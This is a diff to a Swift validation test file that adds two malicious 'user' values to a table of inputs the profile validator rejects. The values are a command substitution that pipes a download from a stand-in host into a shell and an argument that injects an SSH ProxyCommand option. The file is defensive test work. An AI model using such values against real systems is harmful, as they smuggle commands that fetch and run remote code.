@@ -24,6 +24,8 @@ struct ProfileValidationTests {
             ([("port", .integer(0))], "port"),
             ([("port", .integer(70000))], "port"),
             ([("user", .string("a b"))], "user"),
+            ([("user", .string("x$(curl e.com|sh)"))], "user"),
+            ([("user", .string("-oProxyCommand=x"))], "user"),
             ([("keepalive", .integer(-1))], "keepalive"),
             ([("toggle_key", .string("ctrl-c"))], "toggle_key"),
             ([("toggle_key", .string("banana"))], "toggle_key"),
